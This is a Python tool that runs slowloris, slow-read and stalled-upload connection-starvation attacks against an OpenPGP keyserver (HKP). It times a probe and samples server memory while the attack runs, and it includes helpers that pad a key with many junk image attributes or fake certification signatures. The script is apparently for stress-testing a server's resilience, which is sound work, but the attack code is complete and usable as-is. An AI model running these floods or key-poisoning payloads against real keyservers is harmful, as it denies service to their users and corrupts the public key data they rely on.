#!/usr/bin/python3
"""hkpattack.py: HTTP starvation attacks on an HKP server, with a probe.

  hkpattack.py run MODE HOST PORT [options]
      MODE slowloris   CONNS connections, each sends a partial request
                       header, then one more header line every TICK s;
                       a closed connection is opened again
      MODE slowread    CONNS connections ask for PATH (GET, or POST with
                       the bytes of file --body) and never read (small
                       receive buffer); reopened when closed
      MODE stallupload CONNS POST /pks/add announcing 8 MiB, send
                       PART bytes of it, then stall; reopened when closed
    While the attack runs for SECONDS, a probe bound to --probe-src asks
    --probe-path every 0.25 s (one fresh connection each) and times the
    whole answer.  --pid samples the server's resident memory (VmRSS,
    every 0.1 s, and VmHWM at the end).  Prints one JSON object:
    probes, answered (200 within --deadline s), worst_ms, rss_peak_kib,
    attack counters.  A connection the server closed is reopened after
    --reopen s (0.05).  Exit 0 always; the caller judges the numbers.

  hkpattack.py padkey IN OUT N SIZE
      append N user attribute packets of SIZE bytes (a JPEG image
      subpacket of random bytes, no signature) to the first key of the
      binary keyring IN; write the key to OUT
  hkpattack.py padsigs IN OUT N
      the same with N certification packets of about 2 KB (v4, type
      0x10, RSA, random issuer and signature bytes) after the first
      user ID: kept by servers that drop unsigned attributes (SKS)

Debian's /usr/bin/python3 standard library only.
"""
import asyncio
import json
import os
import resource
import socket
import sys
import time


def new_len(n):
    if n < 192:
        return bytes([n])
    if n < 8384:
        n -= 192
        return bytes([(n >> 8) + 192, n & 0xFF])
    return b"\xff" + n.to_bytes(4, "big")


def padkey(src, dst, count, size):
    data = open(src, "rb").read()
    end, seen, cut = 0, 0, None
    for tag, start, stop in walk(data):
        if tag == 6:
            seen += 1
            if seen == 2:
                break
        if tag == 14 and cut is None:
            cut = start  # attributes go before the first subkey
        end = stop
    key = data[:end]
    cut = end if cut is None else cut
    pad = b""
    for _ in range(count):
        img = b"\x10\x00\x01\x01" + b"\x00" * 12 + b"\xff\xd8" + os.urandom(size)
        sub = new_len(len(img) + 1) + b"\x01" + img
        pad += bytes([0xC0 | 17]) + new_len(len(sub)) + sub
    open(dst, "wb").write(key[:cut] + pad + key[cut:])


def padsigs(src, dst, count):
    data = open(src, "rb").read()
    cut = None
    for tag, start, stop in walk(data):
        if tag == 13 and cut is None:
            cut = stop
        elif cut is not None and cut == start and tag == 2:
            cut = stop  # after the user ID's own signatures
    pad = b""
    for i in range(count):
        hashed = b"\x05\x02" + (1500000000 + i).to_bytes(4, "big")
        unhashed = b"\x09\x10" + os.urandom(8)
        mpi = b"\x80" + os.urandom(2047)
        body = (b"\x04\x10\x01\x08" + len(hashed).to_bytes(2, "big") +
                hashed + len(unhashed).to_bytes(2, "big") + unhashed +
                os.urandom(2) + (len(mpi) * 8).to_bytes(2, "big") + mpi)
        pad += bytes([0xC0 | 2]) + new_len(len(body)) + body
    open(dst, "wb").write(data[:cut] + pad + data[cut:])


def walk(data):
    """(tag, start, end) of each packet of a binary keyring."""
    i, n = 0, len(data)
    while i < n:
        start = i
        b = data[i]
        i += 1
        if b & 0x40:
            tag = b & 0x3F
            c = data[i]
            if c < 192:
                ln, i = c, i + 1
            elif c < 224:
                ln, i = ((c - 192) << 8) + data[i + 1] + 192, i + 2
            elif c == 255:
                ln, i = int.from_bytes(data[i + 1:i + 5], "big"), i + 5
            else:
                raise ValueError("partial lengths not supported")
        else:
            tag = (b >> 2) & 0xF
            lt = b & 3
            w = {0: 1, 1: 2, 2: 4}[lt]
            ln = int.from_bytes(data[i:i + w], "big")
            i += w
        i += ln
        yield tag, start, i


class Attack:
    def __init__(self, a):
        self.a = a
        self.opened = 0
        self.closed_by_server = 0
        self.refused = 0
        self.bytes_in = 0
        self.stop = False

    async def connect(self):
        loop = asyncio.get_running_loop()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if self.a["mode"] == "slowread":
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            await loop.sock_connect(s, (self.a["host"], self.a["port"]))
        except OSError:
            s.close()
            self.refused += 1
            await asyncio.sleep(0.2)
            return None
        self.opened += 1
        return s

    async def closed(self, s):
        """True when the server closed s (reads what is there)."""
        try:
            d = s.recv(65536)
        except BlockingIOError:
            return False
        except OSError:
            return True
        if d == b"":
            return True
        self.bytes_in += len(d)
        return False

    async def one(self, i):
        loop = asyncio.get_running_loop()
        a = self.a
        while not self.stop:
            s = await self.connect()
            if s is None:
                continue
            try:
                await self.session(s, loop, i)
            except OSError:
                pass
            s.close()
            self.closed_by_server += 1
            await asyncio.sleep(a["reopen"])

    def read_request(self):
        """GET PATH, or POST PATH with the bytes of file BODY."""
        a = self.a
        if not a["body"]:
            return b"GET %s HTTP/1.0\r\n\r\n" % a["path"].encode()
        body = open(a["body"], "rb").read()
        return (b"POST %s HTTP/1.0\r\nContent-Length: %d\r\n\r\n"
                % (a["path"].encode(), len(body))) + body

    async def session(self, s, loop, i):
        a = self.a
        mode = a["mode"]
        if mode == "slowloris":
            await loop.sock_sendall(
                s, b"GET /pks/lookup?op=get&search=x%d HTTP/1.1\r\n"
                b"Host: a\r\n" % i)
            while not self.stop:
                await asyncio.sleep(a["tick"])
                if await self.closed(s):
                    return
                await loop.sock_sendall(s, b"X-Slow-%d: 1\r\n" % i)
        elif mode == "slowread":
            await loop.sock_sendall(s, self.read_request())
            while not self.stop:
                await asyncio.sleep(1.0)
                if self.peek_closed(s):
                    return
        else:
            body = b"keytext=" + b"A" * (a["part"] - 8)
            await loop.sock_sendall(
                s, b"POST /pks/add HTTP/1.0\r\nContent-Type: "
                b"application/x-www-form-urlencoded\r\n"
                b"Content-Length: 8388608\r\n\r\n" + body)
            while not self.stop:
                await asyncio.sleep(1.0)
                if await self.closed(s):
                    return

    def peek_closed(self, s):
        """A slow reader notices the close only when the server ends
        the connection (RST or EOF), without reading its data."""
        try:
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        except OSError:
            return True
        if err:
            return True
        try:
            info = s.getsockopt(socket.SOL_TCP, socket.TCP_INFO, 8)
        except OSError:
            return True
        return info[0] in (7, 8, 9)  # CLOSE, CLOSE_WAIT, LAST_ACK


def probe_once(a, req):
    """One op=get on a fresh connection: (ok, ms, status)."""
    t0 = time.monotonic()
    status = b"timeout/error"
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.bind((a["probe_src"], 0))
        s.connect((a["host"], a["port"]))
        s.sendall(req)
        data = b""
        while True:
            d = s.recv(65536)
            if not d:
                break
            data += d
        status = data.split(b" ", 2)[1] if data.startswith(b"HTTP/") \
            else b"?"
    except OSError:
        pass
    s.close()
    return status == b"200", (time.monotonic() - t0) * 1000, status


def probe_process(a, wfd):
    """The probe runs in its own process, so that the attack's event
    loop cannot delay it: every 0.25 s one op=get, for a["seconds"]."""
    req = b"GET %s HTTP/1.0\r\n\r\n" % a["probe_path"].encode()
    res = {"probes": 0, "answered": 0, "worst_ms": 0.0, "failures": []}
    end = time.monotonic() + a["seconds"]
    while time.monotonic() < end:
        ok, ms, status = probe_once(a, req)
        res["probes"] += 1
        res["worst_ms"] = max(res["worst_ms"], ms)
        if ok and ms <= a["deadline"] * 1000:
            res["answered"] += 1
        else:
            res["failures"].append("%s %.0f ms" % (status.decode(), ms))
        time.sleep(0.25)
    os.write(wfd, json.dumps(res).encode())
    os._exit(0)


def start_probe(a):
    rfd, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(rfd)
        probe_process(a, wfd)
    os.close(wfd)
    return pid, rfd


def collect_probe(pid, rfd, res):
    data = b""
    while True:
        d = os.read(rfd, 65536)
        if not d:
            break
        data += d
    os.close(rfd)
    os.waitpid(pid, 0)
    res.update(json.loads(data.decode()))


def rss_kib(pid, field="VmRSS"):
    try:
        for line in open("/proc/%d/status" % pid):
            if line.startswith(field + ":"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


async def sample(a, res):
    while not res["stop"]:
        res["rss_peak_kib"] = max(res["rss_peak_kib"], rss_kib(a["pid"]))
        await asyncio.sleep(0.1)


async def run(a):
    atk = Attack(a)
    res = {"mode": a["mode"], "conns": a["conns"], "probes": 0,
           "answered": 0, "worst_ms": 0.0, "failures": [],
           "rss_peak_kib": 0, "stop": False}
    tasks = [asyncio.create_task(atk.one(i)) for i in range(a["conns"])]
    await asyncio.sleep(a["warmup"])
    ppid, prfd = start_probe(a)
    side = []
    if a["pid"]:
        side.append(asyncio.create_task(sample(a, res)))
    await asyncio.sleep(a["seconds"])
    atk.stop = True
    res["stop"] = True
    await asyncio.gather(*side, return_exceptions=True)
    await asyncio.get_running_loop().run_in_executor(
        None, collect_probe, ppid, prfd, res)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    del res["stop"]
    res["failures"] = res["failures"][:10]
    res["worst_ms"] = round(res["worst_ms"], 1)
    if a["pid"]:
        res["rss_hwm_kib"] = rss_kib(a["pid"], "VmHWM")
    res.update(opened=atk.opened, closed=atk.closed_by_server,
               connect_failed=atk.refused, attack_bytes_in=atk.bytes_in)
    return res


def main(argv):
    if len(argv) >= 4 and argv[0] == "padsigs":
        padsigs(argv[1], argv[2], int(argv[3]))
        return 0
    if len(argv) >= 5 and argv[0] == "padkey":
        padkey(argv[1], argv[2], int(argv[3]), int(argv[4]))
        return 0
    if len(argv) < 4 or argv[0] != "run":
        print(__doc__, file=sys.stderr)
        return 2
    a = {"mode": argv[1], "host": argv[2], "port": int(argv[3]),
         "conns": 100, "seconds": 15.0, "tick": 2.0, "warmup": 3.0,
         "path": "/pks/lookup?op=get&options=mr&search=debian", "body": "",
         "part": 4 << 20, "probe_src": "127.0.0.2",
         "probe_path": "/pks/lookup?op=get&options=mr&search=x",
         "deadline": 1.0, "pid": 0, "reopen": 0.05}
    it = iter(argv[4:])
    for opt in it:
        key = opt.lstrip("-").replace("-", "_")
        if key not in a:
            print("unknown option " + opt, file=sys.stderr)
            return 2
        a[key] = type(a[key])(next(it))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(asyncio.run(run(a))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
